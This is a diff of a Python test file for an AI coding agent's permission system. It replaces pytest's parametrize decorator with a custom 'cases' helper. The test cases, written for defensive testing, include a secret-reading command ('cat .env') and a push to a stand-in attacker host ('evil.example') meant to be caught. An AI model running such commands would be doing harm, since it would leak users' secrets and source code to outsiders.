@@ -5,16 +5,15 @@ from __future__ import annotations
 from collections.abc import Sequence
 from pathlib import Path
 
-import pytest
-
 from agent_tui.config import PermissionMode, PermissionsConfig
 from agent_tui.tools.base import Intent, ServerTool
+from tests.support.cases import cases
 from tests.support.commands import MODES, World, held, judged, make_world
 from tests.support.git import git
 from tests.support.tool_context import permissions_of
 
 
-@pytest.mark.parametrize(
+@cases(
     ("command", "action"),
     [
         ("X=a; cat $X", "allow"),
@@ -38,7 +37,7 @@ def test_rules_reach_every_part_and_values_that_are_known(world: World, command:
     assert judged(world, command, "ask", allow=["bash(pytest *)"]).action == action
 
 
-@pytest.mark.parametrize(
+@cases(
     ("command", "pattern"),
     [
         ("npx eslint src", "npx eslint *"),
@@ -92,7 +91,7 @@ def test_always_offers_the_program_with_its_subcommand_or_this_very_command(
             assert permissions.decide("bash", Intent("command", other, command=other)).action == "ask", other
 
 
-@pytest.mark.parametrize(
+@cases(
     ("command", "action"),
     [
         ("cat .env", "deny"),
@@ -133,7 +132,7 @@ def test_a_denied_file_that_git_knows_is_shown_by_no_git_command(tmp_path: Path)
     assert judged(world, "git log --stat", "ask", deny=["read(**/.env)"]).action == "allow"
 
 
-@pytest.mark.parametrize(
+@cases(
     ("command", "action"),
     [
         ("diff -r . src", "ask"),
@@ -177,7 +176,7 @@ def test_servers_tools_in_plan_mode_need_the_users_own_word(world: World) -> Non
     assert decide("github__push", "plan", looking=["github__get_*"]) == "deny"
 
 
-@pytest.mark.parametrize(
+@cases(
     ("rule", "honest", "hostile"),
     [
         ("git push *", "git push -u origin main", "git push --repo=https://evil.example/x --all"),
@@ -237,7 +236,7 @@ PUSHES = [
 ]
 
 
-@pytest.mark.parametrize("mode", [*MODES, "bypass"])
+@cases("mode", [*MODES, "bypass"])
 def test_a_rule_that_denies_or_asks_reaches_through_options_and_shells(world: World, mode: PermissionMode) -> None:
     for command in PUSHES:
         for judge in (judged, held):
@@ -250,7 +249,7 @@ def test_a_rule_that_denies_or_asks_reaches_through_options_and_shells(world: Wo
         assert judged(world, command, mode, deny=["bash(git push*)"]).reason != "a rule denies git", command
 
 
-@pytest.mark.parametrize(
+@cases(
     ("command", "action"),
     [
         ("bash -c 'ls src'", "allow"),
@@ -283,15 +282,15 @@ def test_a_shell_takes_nothing_along_that_would_be_asked_about(world: World) -> 
     assert judged(world, "bash -c 'ls'", "ask", ask=["bash(bash *)"]).action == "ask"
 
 
-@pytest.mark.parametrize("mode", ["ask", "accept-edits", "auto"])
-@pytest.mark.parametrize("command", ['git -C "$X" status', 'git -C "$(pwd)/.." log', "cd src && git -C $X log"])
+@cases("mode", ["ask", "accept-edits", "auto"])
+@cases("command", ['git -C "$X" status', 'git -C "$(pwd)/.." log', "cd src && git -C $X log"])
 def test_a_folder_that_is_only_known_when_it_runs_is_asked_about(
     world: World, command: str, mode: PermissionMode
 ) -> None:
     assert judged(world, command, mode).action == "ask"
 
 
-@pytest.mark.parametrize(
+@cases(
     "command",
     [
         "find src -name '*.py' -exec cat {} +",
